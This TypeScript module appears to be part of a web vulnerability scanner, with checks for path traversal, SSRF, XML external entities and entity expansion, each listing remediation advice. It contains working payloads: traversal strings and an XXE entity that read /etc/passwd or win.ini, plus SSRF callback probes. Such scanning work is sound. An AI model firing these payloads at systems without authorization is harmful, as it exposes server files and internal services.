// Values that name what the server reads: files by a path, addresses that it fetches, entities of XML.
import type { Exchange, Proof } from '../model.js';
import { everywhere, product, proveBy, word, type Attack, type Check, type Probe } from './check.js';

/** The first account of every Unix system; of Windows, the section that its old file of settings begins with. */
const knownFile = ({ body }: Exchange): boolean =>
  /^root:[^:\n]*:0:0:/m.test(body) || /^\[(?:fonts|extensions)\]\s*$/im.test(body);

const up = (step: string): string => step.repeat(8);
const paths: readonly ((tail: string) => string)[] = [
  (tail) => `${up('../')}etc/passwd${tail}`,
  (tail) => `${up('....//')}etc/passwd${tail}`,
  (tail) => `/etc/passwd${tail}`,
  (tail) => `${up('..%2f')}etc%2fpasswd${tail}`,
  (tail) => `file:///etc/passwd${tail}`,
  (tail) => `${up('..\\')}windows\\win.ini${tail}`,
];

/** Values whose names or contents look like a file's, first; of others the two most usual ways are tried. */
const isFileLike = ({ name, value }: Probe['param']): boolean =>
  /file|path|doc|page|template|include|folder|dir|name|view|report|download|lang/i.test(name) || /[./\\]/.test(value);

async function traversal(probe: Probe): Promise<Proof | null> {
  const base = await probe.baseline();
  if (base === null || knownFile(base)) return null;
  const tried = isFileLike(probe.param) || probe.parts.profile === 'full' ? paths : paths.slice(0, 3);
  const makers = tried.map((path) => (): Attack => ({ attack: path(''), neutral: path(word(6)), shows: knownFile }));
  return proveBy(
    probe,
    makers,
    'The answer has the first account of /etc/passwd; for a file that is not there it has not.',
  );
}

async function ssrf(probe: Probe): Promise<Proof | null> {
  const { callbacks } = probe.parts;
  const { name, value } = probe.param;
  const fetches = /ur[il]|link|href|src|host|domain|site|feed|image|callback|webhook|fetch|proxy|dest|target/i.test(
    name,
  );
  if (callbacks === null || !(fetches || /^https?:/i.test(value))) return null;
  let proof: Proof | null = null;
  for (let turn = 0; turn < 2; turn++) {
    const { url, wasAsked, answer } = callbacks.issue();
    const exchange = await probe.with(url);
    if (exchange === null || !wasAsked()) return null;
    const shown = exchange.body.includes(answer) ? ' Its answer is shown.' : '';
    proof = {
      attack: url,
      exchange,
      neutral: null,
      why: `The target asked for an address of this server, twice.${shown}`,
    };
  }
  return proof;
}

async function xxe(probe: Probe): Promise<Proof | null> {
  const { form } = probe;
  if (form.bodyKind !== 'xml') return null;
  const field = form.params.find(({ place }) => place === 'body');
  if (field === undefined) return null;
  const send = async (entity: string): Promise<Exchange | null> =>
    probe.talk.ask({
      method: form.method,
      url: form.url,
      headers: { 'content-type': 'application/xml' },
      body:
        `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY probe ${entity}>]>` +
        `<request><${field.name}>&probe;</${field.name}></request>`,
    });
  const neutral = await send(`"${word()}"`);
  const file = 'SYSTEM "file:///etc/passwd"';
  const first = await send(file);
  if (first !== null && knownFile(first) && neutral !== null && !knownFile(neutral)) {
    const again = await send(file);
    if (again !== null && knownFile(again))
      return { attack: file, exchange: again, neutral, why: 'An external entity was replaced by the text of a file.' };
  }
  const { callbacks } = probe.parts;
  if (callbacks === null) return null;
  const call = callbacks.issue();
  const asked = await send(`SYSTEM "${call.url}"`);
  if (asked === null || !call.wasAsked()) return null;
  return { attack: call.url, exchange: asked, neutral, why: 'The target asked for the address of an external entity.' };
}

async function entities(probe: Probe): Promise<Proof | null> {
  const { form } = probe;
  const field = form.params.find(({ place }) => place === 'body');
  if (form.bodyKind !== 'xml' || field === undefined) return null;
  let proof: Proof | null = null;
  for (let turn = 0; turn < 2; turn++) {
    const { left, right } = product();
    const body =
      `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY one "${left}"><!ENTITY two "&one;x${right}">]>` +
      `<request><${field.name}>&two;</${field.name}></request>`;
    const exchange = await probe.talk.ask({
      method: form.method,
      url: form.url,
      headers: { 'content-type': 'application/xml' },
      body,
    });
    if (exchange === null || !exchange.body.includes(`${left}x${right}`)) return null;
    proof = {
      attack: body,
      exchange,
      neutral: null,
      why: 'Entities that the request declares are replaced, in each other.',
    };
  }
  return proof;
}

export const fileChecks: readonly Check[] = [
  {
    id: 'path-traversal',
    title: 'Path traversal',
    severity: 'high',
    cwe: 22,
    on: 'param',
    profiles: everywhere,
    description: 'A value from the request names a file of the server outside of the directory that it is meant for.',
    remediation: 'Resolve the path and refuse it unless it lies in the directory; better, look names up in a list.',
    prove: traversal,
  },
  {
    id: 'ssrf',
    title: 'Server-side request forgery',
    severity: 'high',
    cwe: 918,
    on: 'param',
    profiles: everywhere,
    description: 'The server fetches an address that the request names.',
    remediation: 'Fetch from a list of hosts only; refuse private addresses after the name is resolved; no redirects.',
    prove: ssrf,
  },
  {
    id: 'xxe',
    title: 'External entities of XML',
    severity: 'high',
    cwe: 611,
    on: 'form',
    profiles: everywhere,
    description: 'The parser of XML fetches entities that the request declares.',
    remediation: 'Switch document types and external entities off in the parser.',
    prove: xxe,
  },
  {
    id: 'xml-entities',
    title: 'Entities of XML are expanded',
    severity: 'medium',
    cwe: 776,
    on: 'form',
    profiles: everywhere,
    description: 'The parser replaces entities that the request declares: a small request can become a huge text.',
    remediation: 'Refuse document types in requests, or bound the expansion.',
    prove: async (probe) => ((await xxe(probe)) === null ? entities(probe) : null),
  },
];
